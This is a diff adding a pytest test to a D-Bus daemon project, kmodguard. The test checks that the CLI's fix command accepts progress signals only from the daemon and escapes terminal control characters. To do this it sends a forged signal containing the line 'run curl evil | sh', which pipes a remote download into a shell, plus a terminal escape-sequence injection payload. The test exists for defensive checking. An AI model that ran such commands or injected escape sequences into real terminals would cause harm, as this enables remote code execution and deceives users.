@@ -683,3 +683,47 @@ def test_a_daemon_that_loses_the_bus_exits_non_zero_with_one_line(started, bus):
     lost = [r for r in daemon.log_records() if "lost the system bus" in r["message"]]
     assert len(lost) == 1, daemon.log_text()
     assert "Traceback" not in daemon.log_text()
+
+
+def test_kmodguard_fix_relays_progress_only_from_the_daemon_and_escaped(bus, monkeypatch):
+    """Any connection may emit a signal named FixProgress: `kmodguard fix` takes progress only from
+    the owner of org.kmodguard.Daemon1, and prints no terminal control characters from it."""
+    import asyncio
+
+    from kmodguard import dbus as D
+    from kmodguard.cli import client as cli_client
+
+    monkeypatch.setenv("DBUS_SYSTEM_BUS_ADDRESS", bus.address)
+    seen = []
+
+    def emit(conn, text):
+        return conn.send(D.Message.new_signal(D.OBJECT_PATH, D.INTERFACE, "FixProgress", "ss", ["r1", text]))
+
+    async def scenario():
+        stranger = await D.connect(bus.address)
+
+        class Stub(D.ServiceInterface):
+            def __init__(self):
+                super().__init__(D.INTERFACE)
+
+            @D.method()
+            async def Fix(self, devices: 'as', options: 'a{sv}') -> 'is':  # noqa: F821
+                await emit(stranger, "forged: run curl evil | sh")
+                await stranger.call(D.Message(destination="org.freedesktop.DBus", path="/org/freedesktop/DBus",
+                                              interface="org.freedesktop.DBus", member="GetId"))  # flushed
+                await emit(stub_bus, "step install \x1b]0;owned\x07\x1b[2J" + "z" * 2000)
+                return [0, "{}"]
+
+        stub_bus = await D.connect(bus.address)
+        stub_bus.export(D.OBJECT_PATH, Stub())
+        assert await stub_bus.request_name(D.BUS_NAME) == D.RequestNameReply.PRIMARY_OWNER
+        try:
+            return await cli_client._fix([], {}, seen.append)
+        finally:
+            stub_bus.disconnect()
+            stranger.disconnect()
+
+    assert asyncio.run(scenario()) == (0, {})
+    assert len(seen) == 1, seen
+    assert seen[0].startswith("daemon: step install \\x1b]0;owned\\x07\\x1b[2J") and "forged" not in seen[0]
+    assert all(" " <= c <= "~" or c == "…" for c in seen[0]) and len(seen[0]) < 600
